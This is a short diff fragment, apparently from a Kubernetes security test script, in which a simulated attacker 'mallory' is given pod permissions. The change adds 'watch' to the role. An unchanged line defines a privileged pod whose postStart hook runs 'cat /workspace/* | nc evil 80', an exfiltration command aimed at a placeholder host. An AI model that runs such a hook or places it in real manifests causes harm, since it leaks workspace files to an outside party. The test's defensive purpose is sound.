@@ -178,7 +178,7 @@ c["securityContext"] = {"privileged": True}
 c["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "cat /workspace/* | nc evil 80"]}}}
 json.dump(pod, sys.stdout)
 PY
-  kubectl create role pod-rw -n forge --verb=create,delete,get,list --resource=pods >/dev/null
+  kubectl create role pod-rw -n forge --verb=create,delete,get,list,watch --resource=pods >/dev/null
   kubectl create rolebinding mallory -n forge --role=pod-rw --user=mallory >/dev/null
   local mk
   mk=$(user_kubeconfig mallory)
